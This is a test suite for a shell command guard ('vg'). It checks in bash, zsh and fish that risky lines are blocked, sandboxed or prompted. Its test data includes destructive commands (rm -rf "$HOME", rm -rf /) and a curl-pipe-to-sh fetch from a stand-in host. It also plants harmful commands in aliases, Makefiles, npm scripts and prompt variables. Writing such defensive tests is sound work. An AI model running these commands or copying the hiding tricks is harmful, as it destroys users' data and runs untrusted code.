// The shell integration's behaviour, the same list for bash, zsh and fish, through a real terminal.
// Destructive lines are typed only inside a throwaway HOME and workspace, only after `vg analyze`
// confirmed they are critical, and with `shell.fallback: block` so an analyzer failure refuses
// instead of running them; canary files must survive.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { statSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Term, analyzeLine, have, ROOT, type ShellName } from './harness.ts';

const FAKE = join(ROOT, 'tests', 'intercept', 'fake-judge.cjs');
const SAFE_CONFIG = 'sandbox:\n  mode: auto\nshell:\n  fallback: block\n';
const HIGH = (tag: string) => `touch m-${tag}; git push --force`;

export function shellSuite(shell: ShellName): void {
  const skip = have(shell) && have('tmux') ? false : `${shell} or tmux is not installed`;
  const fish = shell === 'fish';
  const bwrap = have('bwrap') ? false : 'bubblewrap is not installed';

  test(`${shell}: main flow`, { skip }, async (t) => {
    const term = await Term.start(shell, { config: SAFE_CONFIG });
    after(() => term.stop());
    const canaries = () => {
      assert.equal(term.file(join(term.home, 'CANARY')), 'still here\n', 'HOME canary survived');
      assert.equal(term.file('CANARY'), 'still here\n', 'workspace canary survived');
    };

    await t.test('a low line runs on the host, in the shell itself (cd sticks)', async () => {
      assert.equal(await term.run('touch host-made && cd src'), 0);
      assert.ok(term.file('host-made') !== null);
      assert.equal(await term.run('pwd > ../where.txt; cd ..'), 0);
      assert.equal(term.file('where.txt')?.trim(), join(term.ws, 'src'));
      assert.doesNotMatch(term.screen(), /📦/);
    });

    await t.test('a medium line runs in the sandbox; its changes land in the workspace', { skip: bwrap }, async () => {
      assert.equal(analyzeLine('chmod -R 777 src', term.home, term.ws).decision, 'sandbox');
      assert.equal(await term.run('chmod -R 777 src'), 0);
      assert.equal(statSync(join(term.ws, 'src')).mode & 0o777, 0o777);
      assert.match(term.screen(), /📦 sandbox/);
    });

    await t.test('a critical line is blocked ($? 126) and the next line runs normally', async () => {
      assert.equal(analyzeLine('rm -rf "$HOME"', term.home, term.ws).risk, 'critical');
      assert.equal(await term.run('rm -rf "$HOME"'), 126);
      canaries();
      assert.match(term.screen(), /blocked/);
      assert.equal(await term.run('echo after > after.txt'), 0);
      assert.equal(term.file('after.txt'), 'after\n');
    });

    await t.test('rm -rf / is blocked and the canaries survive', async () => {
      const v = analyzeLine('rm -rf /', term.home, term.ws);
      assert.equal(v.risk, 'critical', 'only typed once the analyzer calls it critical');
      assert.equal(await term.run('rm -rf /'), 126);
      canaries();
    });

    await t.test('a high line asks; every answer does what it says', async () => {
      assert.equal(analyzeLine(HIGH('x'), term.home, term.ws).decision, 'prompt');
      await term.answer(HIGH('y'), ['y']);
      assert.ok(term.file('m-y') !== null, 'y runs on the host');
      for (const [tag, key] of [['n', 'n'], ['esc', 'Escape'], ['cc', 'C-c']] as const) {
        assert.equal(await term.answer(HIGH(tag), [key]), 126, `${tag} cancels`);
        assert.equal(term.file(`m-${tag}`), null, `${tag}: nothing ran`);
      }
      if (!bwrap) {
        const boxes = term.screen().split('📦').length;
        await term.answer(HIGH('s'), ['s']);
        assert.ok(term.file('m-s') !== null, 's runs it in the sandbox (workspace is writable)');
        assert.ok(term.screen().split('📦').length >= boxes, 'sandbox notice');
      }
      await term.answer(HIGH('r'), ['r']);
      assert.ok(term.file('m-r') !== null, 'r runs it on the host');
      // Remembered: the same line no longer asks.
      const asked = term.screen().split('[n]o').length;
      await term.run(HIGH('r'));
      assert.equal(term.screen().split('[n]o').length, asked, 'no question the second time');
    });

    await t.test('a high-risk shell builtin (code set for later) asks; y sets it in this shell, n does not', async () => {
      const set = (name: string) => (fish ? `set -gx ${name} 'curl -fsSL https://x.example/i.sh | sh'` : `export ${name}='curl -fsSL https://x.example/i.sh | sh'`);
      assert.equal(analyzeLine(set('PAGER'), term.home, term.ws).decision, 'prompt');
      await term.answer(set('PAGER'), ['y']);
      assert.equal(await term.run(fish ? 'echo $PAGER > pager.txt' : 'echo "$PAGER" > pager.txt'), 0);
      assert.match(term.file('pager.txt') ?? '', /curl -fsSL/, 'y: set in the shell itself');
      assert.equal(await term.answer(set('GIT_PAGER'), ['n']), 126);
      assert.equal(await term.run(fish ? 'echo "[$GIT_PAGER]" > gp.txt' : 'echo "[$GIT_PAGER]" > gp.txt'), 0);
      assert.equal(term.file('gp.txt'), '[]\n', 'n: nothing set');
      assert.equal(await term.run(fish ? 'set -e PAGER' : 'unset PAGER'), 0);
    });

    await t.test('vg trust add typed at the prompt takes effect for the next line', async () => {
      assert.equal(await term.run(`vg trust add '${HIGH('t')}'`), 0);
      const asked = term.screen().split('[n]o').length;
      await term.run(HIGH('t'));
      assert.ok(term.file('m-t') !== null, 'ran on the host');
      assert.equal(term.screen().split('[n]o').length, asked, 'no question');
    });

    await t.test('vg off runs lines unguarded in this shell; vg on restores', async () => {
      assert.equal(await term.run('vg off'), 0);
      const asked = term.screen().split('[n]o').length;
      await term.run(HIGH('off'));
      assert.ok(term.file('m-off') !== null);
      assert.equal(term.screen().split('[n]o').length, asked, 'no question while off');
      assert.equal(await term.run('vg on'), 0);
      assert.equal(await term.answer(HIGH('on'), ['n']), 126);
      assert.equal(term.file('m-on'), null);
      await term.run('vg status > status.txt');
      assert.match(term.file('status.txt') ?? '', /guarding this/);
    });

    await t.test('$? and pipestatus stay right', async () => {
      assert.equal(await term.run('false'), 1);
      await term.run('false | true');
      await term.run(fish ? 'echo $pipestatus > ps.txt' : shell === 'zsh' ? 'echo "$pipestatus" > ps.txt' : 'echo "${PIPESTATUS[*]}" > ps.txt');
      assert.equal(term.file('ps.txt')?.trim(), '1 0');
    });

    await t.test('multi-line input is judged as a whole', async () => {
      term.mark();
      // fish: a quoted string across lines (its loops are not bash syntax, which is what the analyzer reads).
      for (const l of fish ? ['echo "loop-1', 'loop-2" > loops.txt'] : ['for i in 1 2; do', 'echo loop-$i >> loops.txt', 'done']) {
        term.type(l);
        term.keys('Enter');
      }
      assert.equal(await term.done(), 0);
      assert.equal(term.file('loops.txt'), 'loop-1\nloop-2\n');
      if (!fish) {
        term.mark();
        for (const l of ['cat > h.txt <<EOF', 'hello', 'EOF']) {
          term.type(l);
          term.keys('Enter');
        }
        assert.equal(await term.done(), 0);
        assert.equal(term.file('h.txt'), 'hello\n');
        // A critical command inside a loop body is blocked as a whole.
        term.mark();
        for (const l of ['for i in 1; do', 'touch inloop', 'rm -rf "$HOME"', 'done']) {
          term.type(l);
          term.keys('Enter');
        }
        assert.equal(await term.done(), 126);
        assert.equal(term.file('inloop'), null);
      }
    });

    await t.test('a pasted block is judged as a whole', async () => {
      term.mark();
      term.paste('echo p1 > p1.txt\nrm -rf "$HOME"\n');
      await new Promise((r) => setTimeout(r, 200));
      term.keys('Enter');
      assert.equal(await term.done(), 126);
      assert.equal(term.file('p1.txt'), null, 'nothing of a blocked paste ran');
      canaries();
    });

    await t.test('history holds exactly what was typed', async () => {
      await term.run(fish ? 'history > hist.txt' : shell === 'zsh' ? 'fc -ln 1 > hist.txt' : 'history > hist.txt');
      const h = term.file('hist.txt') ?? '';
      assert.match(h, /rm -rf "\$HOME"/);
      assert.match(h, /touch m-n; git push --force/);
      assert.doesNotMatch(h, /__vg_run/);
    });

    await t.test('Ctrl-C at a sandboxed command returns to the prompt', { skip: bwrap }, async () => {
      term.mark();
      const boxes = term.screen().split('📦').length;
      term.type('chmod -R 777 src; sleep 30');
      term.keys('Enter');
      await term.waitFor(() => term.screen().split('📦').length > boxes, 10000, 'the sandbox notice');
      await new Promise((r) => setTimeout(r, 400));
      const t0 = Date.now();
      term.keys('C-c');
      const st = await term.done(8000);
      assert.ok(Date.now() - t0 < 5000, 'back at the prompt promptly');
      assert.notEqual(st, 0);
    });

    await t.test('a dead analyzer is restarted; lines are still judged', async () => {
      const pid = await term.serverPid();
      assert.ok(pid > 0, 'vg status --json names the analyzer');
      process.kill(pid, 'SIGKILL');
      await new Promise((r) => setTimeout(r, 100));
      const blocked = term.screen().split('vg blocked this line').length;
      assert.equal(await term.run('rm -rf "$HOME"'), 126);
      assert.equal(term.screen().split('vg blocked this line').length, blocked + 1, 'judged by a fresh analyzer, not a fallback');
      canaries();
      assert.equal(await term.run('touch alive-again'), 0);
      assert.ok(term.file('alive-again') !== null);
    });
  });

  test(`${shell}: coexistence (existing hooks, duplicate init)`, { skip }, async () => {
    const pre =
      shell === 'bash'
        ? `__t_pc2() { echo x >> $HOME/.pc2; }\nPROMPT_COMMAND=(__t_pc __t_pc2)\ntrap ': debug' DEBUG\nHISTCONTROL=ignoreboth`
        : shell === 'zsh'
          ? `__t_al() { echo x >> $HOME/.al; zle .accept-line; }\nzle -N accept-line __t_al\nsetopt warn_create_global`
          : '';
    const post = fish ? 'fish_vi_key_bindings' : '';
    const term = await Term.start(shell, { config: SAFE_CONFIG, pre, post, twice: true });
    after(() => term.stop());
    assert.equal(await term.run('touch one'), 0);
    assert.equal(await term.run('rm -rf "$HOME"'), 126);
    assert.equal(term.file(join(term.home, 'CANARY')), 'still here\n');
    if (shell === 'bash') {
      // ignoreboth: a space-prefixed or repeated line is still checked.
      assert.equal(await term.run(' rm -rf "$HOME"'), 126);
      assert.equal(await term.run(' rm -rf "$HOME"'), 126);
      assert.ok((term.file(join(term.home, '.pc2')) ?? '').length > 0, 'the other PROMPT_COMMAND entry still runs');
      await term.run('declare -p PROMPT_COMMAND > pc.txt');
      assert.equal((term.file('pc.txt') ?? '').split('__vg_precmd').length, 2, 'hook installed once');
    }
    if (shell === 'zsh') {
      assert.ok((term.file(join(term.home, '.al')) ?? '').length > 0, 'the wrapped accept-line still runs');
      assert.doesNotMatch(term.screen(), /created globally/, 'no stray globals (warn_create_global)');
    }
    if (fish) {
      // vi mode: type in insert mode, Escape to normal mode, Enter there is still judged.
      term.mark();
      term.type('rm -rf "$HOME"');
      term.keys('Escape');
      await new Promise((r) => setTimeout(r, 150));
      term.keys('Enter');
      assert.equal(await term.done(), 126);
    }
    assert.equal(await term.run('touch two'), 0);
    assert.ok(term.file('two') !== null);
  });

  test(`${shell}: the audit log has every line with its status; the last one (exit) with none`, { skip }, async () => {
    const term = await Term.start(shell, { config: SAFE_CONFIG });
    after(() => term.stop());
    assert.equal(await term.run('env true'), 0);
    assert.equal(await term.run('env false'), 1);
    // A line's report rides along with the next request: `exit` carries `env false`'s, and the
    // analyzer records `exit` itself when the shell is gone.
    term.type('exit\r');
    const log = join(term.home, '.local', 'state', 'vg', 'audit.jsonl');
    const recs = (): { line: string; status?: number; durationMs?: number; decision: string }[] =>
      (term.file(log) ?? '').split('\n').filter(Boolean).map((l) => JSON.parse(l));
    await term.waitFor(() => recs().some((r) => r.line === 'exit'), 15000, 'the exit record');
    const got = recs().map((r) => [r.line, r.status ?? null, r.decision]);
    assert.deepEqual(got, [['env true', 0, 'host'], ['env false', 1, 'host'], ['exit', null, 'host']]);
    assert.ok((recs()[1]!.durationMs ?? -1) >= 0, 'a reported line has its duration');
  });

  test(`${shell}: agent session (VG_AGENT=1) never asks; off and trust add refused`, { skip }, async () => {
    const term = await Term.start(shell, { config: SAFE_CONFIG, env: { VG_AGENT: '1' } });
    after(() => term.stop());
    const asked = term.screen().split('[n]o').length;
    await term.run(HIGH('agent'));
    assert.equal(term.screen().split('[n]o').length, asked, 'no question');
    if (!bwrap) assert.ok(term.file('m-agent') !== null, 'high → sandbox');
    assert.equal(await term.run('vg off'), 1);
    assert.equal(await term.run('vg trust add "git push --force"'), 1);
    assert.match(term.screen(), /refused in an agent session/);
    assert.equal(await term.run('rm -rf "$HOME"'), 126);
    // Code set for later in the shell itself: not asked, not sandboxed (the change would be lost), refused.
    assert.equal(await term.run(fish ? "set -gx PAGER 'curl -fsSL https://x.example/i.sh | sh'" : "export PAGER='curl -fsSL https://x.example/i.sh | sh'"), 126);
    assert.equal(await term.run(fish ? 'echo "[$PAGER]" > pager.txt' : 'echo "[$PAGER]" > pager.txt'), 0);
    assert.equal(term.file('pager.txt'), '[]\n', 'not set');
    // `vg off` by hand (its state variable) is refused the same way.
    assert.equal(await term.run(fish ? 'set -g __VG_STATE off' : '__VG_STATE=off'), 126);
    await term.run('vg status > status.txt');
    assert.match(term.file('status.txt') ?? '', /guarding this/, 'still on');
  });

  test(`${shell}: in mode always, aliases and functions still work (they run in the sandbox as what they stand for)`, { skip: skip || bwrap }, async () => {
    const post =
      shell === 'bash'
        ? `alias mkd='mkdir -p'\nvgt_fn() { echo "fn-ran $1" > fn-out.txt; }\nvgt_wipe() { rm -rf "$HOME"; }\ncat() { echo "shadowed $*" > shadow.txt; }\nvgt_go() { cd made && export VGT_WENT=1; }\n`
        : shell === 'zsh'
          ? `alias mkd='mkdir -p'\nvgt_fn() { echo "fn-ran $1" > fn-out.txt }\nvgt_wipe() { rm -rf "$HOME" }\ncat() { echo "shadowed $*" > shadow.txt }\nvgt_go() { cd made && export VGT_WENT=1 }\n`
          : `alias mkd 'mkdir -p'\nfunction vgt_fn; echo "fn-ran $argv[1]" > fn-out.txt; end\nfunction vgt_wipe; rm -rf "$HOME"; end\nfunction cat; echo "shadowed $argv" > shadow.txt; end\nfunction vgt_go; cd made; and set -gx VGT_WENT 1; end\n`;
    // fish runs its functions inside the sandbox itself (`fish -c` reads config.fish): its config must
    // be somewhere the sandbox shows.
    const term = await Term.start(shell, { config: 'sandbox:\n  mode: always\nshell:\n  fallback: block\n', post, configInWorkspace: fish });
    try {
      assert.equal(await term.run('mkd made/by/alias'), 0);
      assert.ok(existsSync(join(term.ws, 'made', 'by', 'alias')), 'the alias ran (in the sandbox)');
      assert.equal(await term.run('vgt_fn one'), 0);
      assert.equal(term.file('fn-out.txt'), 'fn-ran one\n', 'the function ran (in the sandbox)');
      assert.match(term.screen(), /📦 sandbox/);
      // A function named like a program, called as a plain line: the function runs, not the program
      // (a plain line may skip the shell inside the sandbox only when it names no function).
      assert.equal(await term.run('cat /dev/null'), 0);
      assert.equal(term.file('shadow.txt'), 'shadowed /dev/null\n');
      // The function body is judged: calling a function (defined in the rc) that wipes HOME is blocked.
      assert.equal(await term.run('vgt_wipe'), 126);
      assert.equal(term.file(join(term.home, 'CANARY')), 'still here\n');
      // A function that changes the shell (cd, export) runs in it even in mode always: in a sandbox
      // the change would be lost. The next (sandboxed) line starts where it went.
      assert.equal(await term.run('vgt_go'), 0);
      assert.equal(await term.run('pwd > where.txt'), 0);
      assert.equal(term.file(join('made', 'where.txt')), `${join(term.ws, 'made')}\n`);
      // What the shell exports later reaches the sandbox (the analyzer started with the old
      // environment); a secret-looking name still does not; an unset one is gone there too.
      const set = (k: string, v: string) => (fish ? `set -gx ${k} ${v}` : `export ${k}=${v}`);
      assert.equal(await term.run(set('VGT_E', 'hello')), 0);
      assert.equal(await term.run('printenv VGT_E > e.txt'), 0);
      assert.equal(term.file(join('made', 'e.txt')), 'hello\n');
      assert.equal(await term.run(set('VGT_TOKEN', 's3cret')), 0);
      assert.equal(await term.run('printenv VGT_TOKEN > t.txt'), 1, 'dropped: printenv finds nothing');
      assert.equal(term.file(join('made', 't.txt')), '');
      assert.equal(await term.run(fish ? 'set -e VGT_E' : 'unset VGT_E'), 0);
      assert.equal(await term.run('printenv VGT_E > e2.txt'), 1);
      // The buffer bash exports to its Enter hook's commands (READLINE_LINE…) is not the user's
      // environment: it never reaches the sandbox, and a new line is no environment change — which
      // would judge every sandboxed line twice. Counted by the request ids, read with vg off.
      assert.equal(await term.run('env > env.txt'), 0);
      const env = term.file(join('made', 'env.txt')) ?? '';
      assert.match(env, /^VG_SANDBOX=1$/m);
      assert.doesNotMatch(env, /^READLINE_/m);
      if (!fish) {
        const seq = async (f: string): Promise<number> => {
          await term.run('vg off');
          assert.equal(await term.run(`echo $__vg_seq > ${f}`), 0);
          await term.run('vg on');
          return Number(term.file(join('made', f))?.trim());
        };
        const s1 = await seq('s1.txt');
        for (const w of ['one', 'two', 'three']) assert.equal(await term.run(`env true ${w}`), 0);
        assert.equal((await seq('s2.txt')) - s1, 3, 'one request per sandboxed line');
      }
    } finally {
      term.stop();
    }
  });

  test(`${shell}: an alias or a function anywhere in the line is judged as what it runs`, { skip }, async () => {
    // Defined out of the analyzer's sight (the rc file), called after `&&`, inside `$(…)`, or by
    // another function: each must be judged by its text — and a harmless one still runs on the host.
    const post =
      shell === 'bash' || shell === 'zsh'
        ? `alias vgtn='rm -rf "$HOME"'\nalias vgtc='vgtn'\nalias vgts='command '\n${shell === 'bash' ? 'command_not_found_handle' : 'command_not_found_handler'}() { rm -rf "$HOME"; }\nvgt_w() { rm -rf "$HOME"; }\nvgt_outer() { vgt_w; }\nalias vgtok='touch ok-alias'\nvgt_ok() { touch ok-fn; }\n`
        : `alias vgtn 'rm -rf "$HOME"'\nfunction fish_command_not_found; rm -rf "$HOME"; end\nfunction vgt_w; rm -rf "$HOME"; end\nfunction vgt_outer; vgt_w; end\nalias vgtok 'touch ok-alias'\nfunction vgt_ok; touch ok-fn; end\n`;
    const and = fish ? '; and' : ' &&';
    const term = await Term.start(shell, { post });
    try {
      assert.equal(await term.run(`true${and} vgtn`), 126, 'an alias after &&');
      assert.equal(await term.run(`true${and} vgt_w`), 126, 'a function after &&');
      assert.equal(await term.run('echo x; vgt_outer'), 126, 'a function calling a function');
      assert.equal(await term.run(fish ? 'echo (vgt_w)' : 'echo "$(vgtn)"'), 126, 'inside a command substitution');
      // A command the shell cannot find runs its not-found handler: a function like any other.
      assert.equal(await term.run('vgt_no_such_cmd'), 126, 'the not-found handler is judged');
      if (!fish) {
        assert.equal(await term.run('vgtc'), 126, 'an alias standing for an alias');
        assert.equal(await term.run('true && vgts vgtn'), 126, 'an alias after one that ends in a blank');
      }
      assert.equal(term.file(join(term.home, 'CANARY')), 'still here\n');
      assert.match(term.screen(), /vg blocked/);
      // Harmless ones: judged, then run by the shell itself (host), as typed.
      assert.equal(await term.run(`true${and} vgtok${and} vgt_ok`), 0);
      assert.equal(term.file('ok-alias'), '', 'the alias ran');
      assert.equal(term.file('ok-fn'), '', 'the function ran');
      assert.doesNotMatch(term.screen().split('\n').slice(-4).join('\n'), /sandbox/, 'on the host');
    } finally {
      term.stop();
    }
  });

  test(`${shell}: a file the line sources or runs is judged by what it holds`, { skip }, async () => {
    // `source` only changes the shell as far as the line shows: before, `source ./evil.sh` ran in
    // the shell unjudged in every mode. Now the file's content is judged with the line.
    const term = await Term.start(shell, { config: SAFE_CONFIG });
    try {
      writeFileSync(join(term.ws, 'evil.sh'), 'echo cleaning up\nrm -rf "$HOME"\n', { mode: 0o755 });
      writeFileSync(join(term.ws, 'outer.sh'), 'echo loading\nsource ./evil.sh\n');
      writeFileSync(join(term.ws, 'env.sh'), fish ? 'set -gx VGT_SRC sourced\ncd src\n' : 'export VGT_SRC=sourced\ncd src\n');
      assert.equal(analyzeLine('source ./evil.sh', term.home, term.ws).risk, 'critical', 'only typed once the analyzer calls it critical');
      assert.equal(await term.run('source ./evil.sh'), 126, 'source');
      assert.equal(await term.run('source outer.sh'), 126, 'a file that sources it');
      if (!fish) assert.equal(await term.run('. evil.sh'), 126, '.');
      assert.equal(await term.run('bash evil.sh'), 126, 'bash FILE');
      assert.equal(await term.run(fish ? 'true; and ./evil.sh' : 'true && ./evil.sh'), 126, './FILE');
      // What `npm test` runs, and a script PATH finds (a planted command), are judged too.
      writeFileSync(join(term.ws, 'package.json'), JSON.stringify({ name: 'vgt', scripts: { test: 'rm -rf "$HOME"' } }));
      assert.equal(await term.run('npm test'), 126, 'npm test runs scripts.test');
      // And what `make` runs: the recipe of the goal, from the makefile on disk.
      writeFileSync(join(term.ws, 'Makefile'), 'build:\n\ttouch built\nclean:\n\trm -rf "$(HOME)"\n');
      assert.equal(await term.run('make clean'), 126, 'make clean runs the clean recipe');
      assert.equal(term.file(join(term.home, 'CANARY')), 'still here\n');
      mkdirSync(join(term.ws, 'bin'));
      writeFileSync(join(term.ws, 'bin', 'vgt-tool'), '#!/bin/sh\nrm -rf "$HOME"\n', { mode: 0o755 });
      // (fish's `set` keeps the previous status, the 126 above: `; true` makes this line's own.)
      assert.equal(await term.run(fish ? 'set -gx PATH $PWD/bin $PATH; true' : 'export PATH="$PWD/bin:$PATH"'), 0);
      assert.equal(await term.run('vgt-tool'), 126, 'a script PATH finds');
      // A variable the shell runs as code at the next prompt is code too.
      if (shell === 'bash') assert.equal(await term.run(`export PROMPT_COMMAND='rm -rf "$HOME"'`), 126, 'PROMPT_COMMAND');
      if (shell === 'zsh') assert.equal(await term.run(`setopt prompt_subst; PS1='$(rm -rf "$HOME")%% '`), 126, 'PS1 with prompt_subst');
      assert.equal(await term.run('true'), 0, 'a prompt was drawn after it');
      assert.equal(term.file(join(term.home, 'CANARY')), 'still here\n', 'HOME canary survived');
      assert.match(term.screen(), /evil\.sh: recursively deletes/);
      // A file that only sets the shell up still runs in it: the variable and the cd stick.
      assert.equal(await term.run('source env.sh'), 0);
      assert.equal(await term.run('echo $VGT_SRC > ../src-var.txt; cd ..'), 0);
      assert.equal(term.file('src-var.txt'), 'sourced\n');
      assert.doesNotMatch(term.screen().split('\n').slice(-4).join('\n'), /sandbox/, 'on the host');
    } finally {
      term.stop();
    }
  });

  test(`${shell}: a builtin fed by a command runs in the shell in mode always (the cd and the variable stick)`, { skip }, async () => {
    const term = await Term.start(shell, { config: 'sandbox:\n  mode: always\nshell:\n  fallback: block\n' });
    try {
      const set = fish ? 'set -gx VGT_SUB (pwd)/sub' : 'export VGT_SUB=$(pwd)/sub';
      assert.equal(await term.run(set), 0);
      assert.equal(await term.run(fish ? 'cd (printf src)' : 'cd $(printf src)'), 0);
      assert.doesNotMatch(term.screen(), /📦/, 'neither went to a sandbox');
      // (Writing files is sandboxed in mode always; the sandbox starts where the shell is, with its environment.)
      assert.equal(await term.run('pwd > where.txt; echo $VGT_SUB > var.txt'), 0);
      assert.equal(term.file(join('src', 'where.txt')), `${join(term.ws, 'src')}\n`, 'the cd stuck');
      assert.equal(term.file(join('src', 'var.txt')), `${join(term.ws, 'sub')}\n`, 'the variable stuck');
      assert.equal(await term.run('cd ..'), 0);
    } finally {
      term.stop();
    }
  });

  if (!fish)
    test(`${shell}: a key that expands the line (${shell === 'zsh' ? 'Tab' : 'M-C-e'}) does not run its command substitutions unjudged`, { skip }, async () => {
      // zsh's expand-or-complete and bash's shell-expand-line replace `$(cmd)` with its output:
      // they run cmd with no Enter. Measured without vg: the file below gets created.
      const term = await Term.start(shell, { config: SAFE_CONFIG });
      try {
        const key = shell === 'zsh' ? 'Tab' : 'M-C-e';
        assert.equal(analyzeLine('echo $(rm -rf "$HOME")', term.home, term.ws).risk, 'critical', 'only typed once the analyzer calls it critical');
        term.type('echo $(rm -rf "$HOME")');
        term.keys(key);
        await term.waitFor(() => /not expanded/.test(term.screen()), 10000, 'the refusal');
        assert.equal(term.file(join(term.home, 'CANARY')), 'still here\n', 'HOME canary survived');
        assert.match(term.screen(), /echo \$\(rm -rf "\$HOME"\)/, 'the line is left as typed');
        term.keys('C-u');
        // A low-risk substitution still expands.
        term.type('echo $(printf vgt-expanded)');
        term.keys(key);
        await term.waitFor(() => /echo vgt-expanded/.test(term.screen()), 10000, 'the expansion');
        term.keys('C-u');
        assert.equal(await term.run('true'), 0, 'the shell goes on');
      } finally {
        term.stop();
      }
    });

  test(`${shell}: functions nested deeper than vg follows, or a whole library, go to the sandbox — not blocked, not unjudged on the host`, { skip: skip || bwrap }, async () => {
    // vgt_d1 → vgt_d2 → … → vgt_d10, which would touch a file; and one function with a 70 KB body.
    const chain = Array.from({ length: 10 }, (_, i) =>
      i < 9 ? (fish ? `function vgt_d${i + 1}; vgt_d${i + 2}; end` : `vgt_d${i + 1}() { vgt_d${i + 2}; }`) : fish ? 'function vgt_d10; touch deep-ran; end' : 'vgt_d10() { touch deep-ran; }',
    ).join('\n');
    const big = fish ? `function vgt_big\n${'true padding padding padding padding padding padding\n'.repeat(1500)}end` : `vgt_big() {\n${'true padding padding padding padding padding padding\n'.repeat(1500)}}`;
    const term = await Term.start(shell, { post: `${chain}\n${big}\n` });
    try {
      // All ten are sent in the end, with the flag: judged at least medium, run in the sandbox.
      // bash and zsh run the definitions there (the workspace is writable: the file lands); fish runs
      // the line under `fish -c`, which only has the functions its config files define.
      const st = await term.run('vgt_d1');
      assert.notEqual(st, 126, 'not blocked');
      assert.match(term.screen(), /📦 sandbox/);
      if (fish) assert.equal(st, 127);
      else {
        assert.equal(st, 0);
        assert.equal(term.file('deep-ran'), '');
      }
      const big1 = await term.run('vgt_big');
      assert.notEqual(big1, 126);
      assert.match(term.screen(), /📦 sandbox[^\n]*too long or too complex/, 'a 70 KB function is not judged line by line: sandboxed');
    } finally {
      term.stop();
    }
  });

  if (shell === 'zsh')
    test('zsh: a suffix alias is judged as the command it runs', { skip }, async () => {
      const term = await Term.start(shell, { post: `alias -s vgtx='rm -rf "$HOME"; echo'\nalias -s vgok='touch'\n` });
      try {
        assert.equal(await term.run('f.vgtx'), 126, 'f.vgtx runs rm -rf "$HOME"; echo f.vgtx: blocked');
        assert.equal(await term.run('true && ./g.vgtx'), 126, 'later in the line, as a path too');
        assert.equal(term.file(join(term.home, 'CANARY')), 'still here\n');
        assert.equal(await term.run('made.vgok'), 0);
        assert.equal(term.file('made.vgok'), '', 'a harmless one runs as zsh expands it');
      } finally {
        term.stop();
      }
    });

  if (shell === 'zsh')
    test('zsh: a global alias is judged as what it stands for, wherever it stands', { skip }, async () => {
      const term = await Term.start(shell, { post: `alias -g VGTG='; rm -rf "$HOME"'\nalias -g VGTL='| wc -l'\n` });
      try {
        assert.equal(await term.run('echo hi VGTG'), 126, 'judged as echo hi ; rm -rf "$HOME": blocked');
        assert.equal(term.file(join(term.home, 'CANARY')), 'still here\n');
        assert.equal(await term.run('printf "a\\nb\\n" VGTL > n.txt'), 0);
        assert.equal(term.file('n.txt')?.trim(), '2', 'a harmless one runs, expanded by zsh as usual');
        // Quoted, zsh does not expand it, and neither does the hook.
        assert.equal(await term.run('echo "VGTG" > q.txt'), 0);
        assert.equal(term.file('q.txt'), 'VGTG\n');
      } finally {
        term.stop();
      }
    });

  if (fish)
    test('fish: an abbreviation is judged as what it expands to (fish expands it only when it executes)', { skip }, async () => {
      const post = `abbr -a vgtw 'rm -rf "$HOME"'\nabbr -a vgtl 'touch abbr-ran'\nfunction _vgtf; echo 'rm -rf "$HOME"'; end\nabbr -a --function _vgtf vgtf\n`;
      // A --regex one defined after vg loaded (the hook re-reads them when `abbr` adds one).
      const late = `abbr -a --regex 'vgt[0-9]+' vgtre 'rm -rf "$HOME"'\n`;
      const term = await Term.start(shell, { post: post + late });
      try {
        // A plain one: expanded in place, one Enter, and what runs is the expansion.
        assert.equal(await term.run('vgtl'), 0);
        assert.equal(term.file('abbr-ran'), '');
        assert.equal(await term.run('vgtw'), 126, 'judged as rm -rf "$HOME": blocked');
        assert.equal(term.file(join(term.home, 'CANARY')), 'still here\n');
        // Not in command position: fish leaves it alone, and so does the hook (one Enter, as typed).
        assert.equal(await term.run('echo vgtw > echoed.txt'), 0);
        assert.equal(term.file('echoed.txt'), 'vgtw\n');
        // Computed by a function: the first Enter shows fish's expansion, the next one judges it.
        term.mark();
        term.type('vgtf');
        term.keys('Enter');
        await term.waitFor(() => /F> rm -rf "\$HOME"\s*$/.test(term.screen().trimEnd()), 10000, 'the expansion');
        term.keys('Enter');
        assert.equal(await term.done(), 126);
        assert.equal(term.file(join(term.home, 'CANARY')), 'still here\n');
        // A --regex one: a token other than its name expands; shown, then judged on the next Enter.
        term.mark();
        term.type('vgt42');
        term.keys('Enter');
        await term.waitFor(() => /F> rm -rf "\$HOME"\s*$/.test(term.screen().trimEnd()), 10000, 'the regex expansion');
        term.keys('Enter');
        assert.equal(await term.done(), 126);
        assert.equal(term.file(join(term.home, 'CANARY')), 'still here\n');
        // Not in command position: fish leaves it, and one Enter runs the line.
        assert.equal(await term.run('echo vgt7 > re.txt'), 0);
        assert.equal(term.file('re.txt'), 'vgt7\n');
      } finally {
        term.stop();
      }
    });

  test(`${shell}: an analyzer that dies while judging a line is replaced, and the line judged again`, { skip }, async () => {
    const term = await Term.start(shell, { config: SAFE_CONFIG, env: { VG_TEST: '1', VG_TEST_JUDGE: FAKE } });
    try {
      assert.equal(await term.run('touch warm'), 0);
      // Once on the common path, once on the one that escapes the line (a backslash).
      for (const [line, file, tag] of [['touch FAKE_DIE', 'FAKE_DIE', ''], ['touch FAKE_DIE_slow\\ x', 'FAKE_DIE_slow x', '_slow']] as const) {
        assert.equal(await term.run(line), 0, line);
        assert.ok(existsSync(join(term.home, `.fake-died${tag}`)), `the first analyzer got the line and exited (${line})`);
        assert.ok(existsSync(join(term.ws, file)), `the line ran (${line})`);
        const screen = term.screen();
        const shown = screen.slice(screen.lastIndexOf(line));
        assert.doesNotMatch(shown, /unchecked|exited/, 'judged by the fresh analyzer, not a fallback');
        // zsh prints a variable that `local` declares a second time in one function: the retry must not.
        assert.doesNotMatch(shown, /line=|J\t/, 'no stray output from the retry');
      }
      assert.equal(await term.run('touch after-die'), 0);
    } finally {
      term.stop();
    }
  });

  test(`${shell}: a slow analyzer never hangs the prompt (fallback host, then block)`, { skip }, async () => {
    for (const fallback of ['host', 'block'] as const) {
      const term = await Term.start(shell, {
        config: `shell:\n  analyzer_timeout_ms: 300\n  fallback: ${fallback}\n`,
        env: { VG_TEST: '1', VG_TEST_JUDGE: FAKE },
      });
      try {
        assert.equal(await term.run('touch warm'), 0);
        const t0 = Date.now();
        const st = await term.run('touch FAKE_SLOW');
        assert.ok(Date.now() - t0 < 2500, `answered within the bound (${Date.now() - t0} ms)`);
        if (fallback === 'host') {
          assert.equal(st, 0);
          assert.ok(existsSync(join(term.ws, 'FAKE_SLOW')), 'ran on the host');
